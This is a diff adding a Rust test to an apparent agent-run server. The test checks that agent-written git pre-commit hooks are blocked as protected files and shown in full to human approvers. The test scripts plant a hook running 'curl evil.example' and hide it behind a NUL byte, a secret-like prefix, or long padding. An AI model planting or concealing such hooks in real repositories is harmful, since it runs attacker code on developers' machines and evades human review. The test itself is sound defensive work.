@@ -92,6 +92,46 @@ fn over_a_server_others_approve_and_own_files_are_never_published() {
     assert!(actum.path("AGENTS.md").exists());
 }
 
+/// What a hook would run, hidden from a reader of an ordinary diff.
+const PAYLOAD: &str = "curl evil.example";
+
+#[test]
+fn an_approval_shows_contents_that_are_not_text_or_look_like_secrets() {
+    let scripts = [
+        ("zero", format!("mkdir -p .husky; printf '#!/bin/sh\\n{PAYLOAD}\\n\\000' > .husky/pre-commit")),
+        ("token", format!("mkdir -p .husky; printf '#!/bin/sh\\ntoken: {PAYLOAD}\\n' > .husky/pre-commit")),
+        ("long", format!("mkdir -p .husky; (printf '%0270000d' 0; echo; echo {PAYLOAD}) > .husky/pre-commit")),
+    ];
+    let agents: Vec<_> = scripts.iter().map(|(name, script)| (*name, script.as_str())).collect();
+    let actum = project(&agents);
+    let (operator, admin) = (token(&actum, "operator", &[]), token(&actum, "admin", &[]));
+    let server = Server::start(&actum, &["--workers", "1"]);
+    for (name, _) in &scripts {
+        let work = json!({"items": [with(item("i", name), "output_files", json!([".husky/pre-commit"]))]});
+        let made = server.post(&operator, "/v1/runs", work).is(202);
+        let run = made["runs"][0]["run_id"].as_str().unwrap().to_owned();
+        super::runs::until("the run is over", || super::runs::is_over(&actum, &run));
+        let ended = status(&actum, &run);
+        assert_eq!(ended["run"]["error_code"], "PROTECTED_FILE", "{name}: {ended}");
+        let waits = server.post(&operator, &format!("/v1/runs/{run}/apply"), json!({}));
+        let asked = server.get(&admin, "/v1/approvals").is(200);
+        let of_run =
+            asked["approvals"].as_array().unwrap().iter().find(|one| one["tool_id"].as_str().unwrap().contains(&run));
+        assert!(!actum.path(".husky/pre-commit").exists(), "{name}");
+        // At the keyboard all of it is shown.
+        let shown = actum.run(&["apply", &run, "--protected"]);
+        assert!(shown.code == 3 && shown.stderr.contains(PAYLOAD), "{name}: {}", shown.stderr);
+        if *name == "long" {
+            assert_eq!(of_run, None, "{waits:?}");
+            assert!(waits.body.contains("PROTECTED_FILES") && waits.body.contains("--protected"), "{waits:?}");
+            continue;
+        }
+        assert!(waits.body.contains("APPROVAL"), "{name}: {waits:?}");
+        let diff = of_run.unwrap()["call"]["diff"].as_str().unwrap();
+        assert!(diff.contains(PAYLOAD) && !diff.contains("REDACTED"), "{name}: {diff}");
+    }
+}
+
 #[test]
 fn no_run_makes_a_repository_that_git_would_obey() {
     let bare = format!(
